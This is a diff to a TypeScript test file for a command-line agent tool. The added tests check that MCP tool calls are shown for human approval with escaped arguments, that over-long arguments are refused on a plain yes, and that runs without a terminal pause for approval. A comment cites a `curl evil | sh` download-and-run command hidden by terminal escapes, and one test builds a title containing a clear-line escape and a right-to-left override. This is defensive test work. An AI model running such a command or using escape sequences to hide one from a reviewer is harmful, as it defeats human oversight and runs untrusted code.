@@ -5,6 +5,7 @@ import type { CliOutput } from '../../../src/cli/cliIo';
 import { TerminalPrompt } from '../../../src/cli/terminalPrompt';
 import { renderUnifiedDiff } from '../../../src/cli/unifiedDiff';
 import type { EditProposal } from '../../../src/core/tools/approvalPort';
+import { mcpCallShown } from '../../../src/core/tools/mcpTool';
 
 const ESC = '\u001b';
 /** Content whose `curl evil | sh` a raw terminal would erase: CR, clear-line, then a harmless line. */
@@ -150,6 +151,58 @@ describe('checklist 30: terminal approvals show escapes and the whole change', (
     await assert.rejects(
       approvals(term.prompt).decideEdit(proposal(numbered(1000), null), new AbortController().signal),
       /terminal closed before an answer/,
+    );
+  });
+});
+
+describe('checklist 30: an MCP tool call is asked as one, with its arguments escaped', () => {
+  const signal = (): AbortSignal => new AbortController().signal;
+  const mcpProposal = (args: Record<string, unknown>) => ({
+    approvalId: 'T1:mcp:1',
+    runId: 'r1',
+    taskId: 'T1',
+    agentId: 'coder',
+    command: `mcp__github__create_issue ${JSON.stringify(args)}`,
+    argv: [],
+    cwd: '.',
+    reason: 'call the tool "create_issue" of the MCP server "github": MCP tools ask',
+    mcp: mcpCallShown('github', 'create_issue', args),
+  });
+
+  it('names server and tool, shows the arguments with escapes, and says it is not a command', async () => {
+    const t = terminal(['y']);
+    const title = `Fix${ESC}[2K\u202e it`;
+    const decision = await approvals(t.prompt).decideCommand(mcpProposal({ title, labels: ['bug'] }), signal());
+    assert.deepEqual(decision, { decision: 'accepted', by: 'user' });
+    const out = t.written();
+    assert.match(out, /wants to call an MCP tool:\n {2}Server: {4}github\n {2}Tool: {6}create_issue\n {2}Arguments:\n/);
+    assert.ok(out.includes('"title": "Fix\\u001b[2K\\u202e it"'), out);
+    assert.ok(!out.includes(ESC) && !out.includes('\u202e'), 'no raw escape reaches the terminal');
+    assert.match(out, /⚠ 2 hidden or control characters shown as escapes .* in these arguments/);
+    assert.doesNotMatch(out, /run a command|Program and arguments/);
+    assert.deepEqual(t.questions, ['Call this MCP tool? [y/N] ']);
+  });
+
+  it('arguments too long to show are never called on a plain yes, and the prompt says how much is hidden', async () => {
+    const big = { body: 'x'.repeat(25_000) };
+    const yes = terminal(['y']);
+    const refused = await approvals(yes.prompt).decideCommand(mcpProposal(big), signal());
+    assert.equal(refused.decision, 'rejected');
+    assert.match(yes.written(), /… \d+ more characters of the arguments are not shown\./);
+    const unseen = terminal(['call unseen']);
+    assert.equal((await approvals(unseen.prompt).decideCommand(mcpProposal(big), signal())).decision, 'accepted');
+  });
+
+  it('without a terminal the run pauses with a message that names the MCP tool, not a command line', async () => {
+    const headless = new CliApprovals({
+      mode: 'auto',
+      prompt: undefined,
+      color: false,
+      resumeCommand: (id) => `ao resume ${id}`,
+    });
+    await assert.rejects(
+      headless.decideCommand(mcpProposal({ q: 1 }), signal()),
+      /^TaskFailure: Approval needed to call the MCP tool "create_issue" of server "github" \(an MCP tool call always needs a person, and there is no terminal to ask on\)\. Decide with: ao resume r1 --approve prompt$/,
     );
   });
 });
